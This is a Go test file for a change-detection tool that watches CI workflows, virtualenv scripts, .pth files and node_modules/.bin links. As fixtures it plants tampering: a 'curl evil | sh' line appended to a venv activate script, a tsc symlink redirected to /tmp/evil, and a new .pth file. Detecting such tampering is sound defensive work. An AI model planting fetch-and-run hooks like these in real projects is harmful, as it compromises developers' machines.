package review

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

func write(t *testing.T, root, rel, content string, mode os.FileMode) {
	t.Helper()
	p := filepath.Join(root, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
}

func link(t *testing.T, root, target, rel string) {
	t.Helper()
	p := filepath.Join(root, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	os.Remove(p)
	if err := os.Symlink(target, p); err != nil {
		t.Fatal(err)
	}
}

// project is a workdir with a workflow, a virtualenv and node_modules.
func project(t *testing.T) string {
	w := t.TempDir()
	write(t, w, ".github/workflows/ci.yml", "on: push\n", 0o644)
	write(t, w, ".venv/bin/activate", "# activate\n", 0o644)
	link(t, w, "/usr/bin/python3", ".venv/bin/python")
	write(t, w, ".venv/pyvenv.cfg", "home = /usr/bin\n", 0o644)
	write(t, w, ".venv/lib/python3.12/site-packages/a.pth", "/x\n", 0o644)
	write(t, w, ".venv/lib/python3.12/site-packages/pkg/inner.pth", "not a site dir\n", 0o644)
	link(t, w, "../typescript/bin/tsc", "node_modules/.bin/tsc")
	write(t, w, "src/main.js", "\n", 0o644)
	return w
}

func TestAfter(t *testing.T) {
	w := project(t)
	s, err := Before(w, Watched)
	if err != nil {
		t.Fatal(err)
	}
	if changes, err := s.After(); err != nil || len(changes) != 0 {
		t.Fatalf("nothing changed, After = %v, %v", changes, err)
	}
	write(t, w, ".github/workflows/release.yml", "on: push\n", 0o644)                   // created
	write(t, w, ".venv/bin/activate", "# activate\ncurl evil | sh\n", 0o644)            // changed
	os.Remove(filepath.Join(w, ".venv/bin/python"))                                     // a script in place of the link
	write(t, w, ".venv/bin/python", "#!/bin/sh\nexec /usr/bin/python3 \"$@\"\n", 0o755) //
	os.Remove(filepath.Join(w, ".venv/lib/python3.12/site-packages/a.pth"))             // removed
	write(t, w, ".venv/lib/python3.12/site-packages/b.pth", "import os\n", 0o644)       // created
	write(t, w, ".venv/lib/python3.12/site-packages/pkg/other.pth", "\n", 0o644)        // not in a site dir
	link(t, w, "/tmp/evil", "node_modules/.bin/tsc")                                    // target changed
	link(t, w, "../eslint/bin/eslint.js", "node_modules/.bin/eslint")                   // routine
	link(t, w, "../prettier/bin/prettier.cjs", "node_modules/.bin/prettier")            // routine
	write(t, w, "node_modules/.bin/jest", "#!/bin/sh\n", 0o755)                         // a file, not a link
	os.Chmod(filepath.Join(w, ".github/workflows/ci.yml"), 0o755)                       // mode only
	write(t, w, "src/main.js", "changed\n", 0o644)                                      // not watched
	os.MkdirAll(filepath.Join(w, ".github/actions"), 0o755)
	link(t, w, "/etc", ".github/actions/setup") // a link is recorded, never walked

	changes, err := s.After()
	if err != nil {
		t.Fatal(err)
	}
	got := Lines(changes)
	want := []string{
		".github/actions/setup: created (symlink to /etc)",
		".github/workflows/ci.yml: changed (file, 9 bytes, executable; was file, 9 bytes)",
		".github/workflows/release.yml: created (file, 9 bytes)",
		".venv/bin/activate: changed (file, 26 bytes; was file, 11 bytes)",
		".venv/bin/python: changed (file, 37 bytes, executable; was symlink to /usr/bin/python3)",
		".venv/lib/python3.12/site-packages/a.pth: removed (was file, 3 bytes)",
		".venv/lib/python3.12/site-packages/b.pth: created (file, 10 bytes)",
		"node_modules/.bin/*: 2 created (symlinks into node_modules/)",
		"node_modules/.bin/jest: created (file, 10 bytes, executable)",
		"node_modules/.bin/tsc: changed (symlink to /tmp/evil; was symlink to ../typescript/bin/tsc)",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("Lines =\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestSymlinkedParent: a watched directory swapped for a symlink is
// reported as the link, and what it points at is never walked.
func TestSymlinkedParent(t *testing.T) {
	w := project(t)
	elsewhere := t.TempDir()
	write(t, elsewhere, "bin/activate", "evil\n", 0o644)
	s, err := Before(w, Watched)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(filepath.Join(w, ".venv"), filepath.Join(w, ".venv.old")); err != nil {
		t.Fatal(err)
	}
	link(t, w, elsewhere, ".venv")
	changes, err := s.After()
	if err != nil {
		t.Fatal(err)
	}
	var created []string
	for _, c := range changes {
		if c.Kind == Created {
			created = append(created, c.String())
		}
		if strings.Contains(c.Path, "activate") && c.Kind != Removed {
			t.Errorf("walked through the link: %v", c)
		}
	}
	if len(created) != 1 || created[0] != ".venv: created (symlink to "+elsewhere+")" {
		t.Errorf("created = %q, want only the .venv link", created)
	}
}

func TestMatch(t *testing.T) {
	for _, c := range []struct {
		pat, name string
		want      bool
	}{
		{".github/actions/**", ".github/actions/a/action.yml", true},
		{".github/actions/**", ".github/actions/x", true},
		{".github/actions/**", ".github/workflows/x", false},
		{"a/**/b", "a/b", true},
		{"a/**/b", "a/x/y/b", true},
		{"node_modules/.bin/*", "node_modules/.bin/x", true},
		{"node_modules/.bin/*", "node_modules/.bin/x/y", false},
	} {
		if got := match(strings.Split(c.pat, "/"), strings.Split(c.name, "/")); got != c.want {
			t.Errorf("match(%q, %q) = %v", c.pat, c.name, got)
		}
	}
}

// TestWatchedForm: every watch is relative, clean and says why.
func TestWatchedForm(t *testing.T) {
	seen := map[string]bool{}
	for _, w := range Watched {
		if seen[w.Pattern] || filepath.IsAbs(w.Pattern) || filepath.Clean(w.Pattern) != w.Pattern || strings.Contains(w.Pattern, "..") {
			t.Errorf("%q: duplicate, or not a clean relative pattern", w.Pattern)
		}
		seen[w.Pattern] = true
		if len(w.Why) < 20 {
			t.Errorf("%q: say who runs it and when", w.Pattern)
		}
		if w.LinksInside != "" && !strings.HasPrefix(w.Pattern, w.LinksInside+"/") {
			t.Errorf("%q: LinksInside %q must contain the pattern", w.Pattern, w.LinksInside)
		}
	}
}
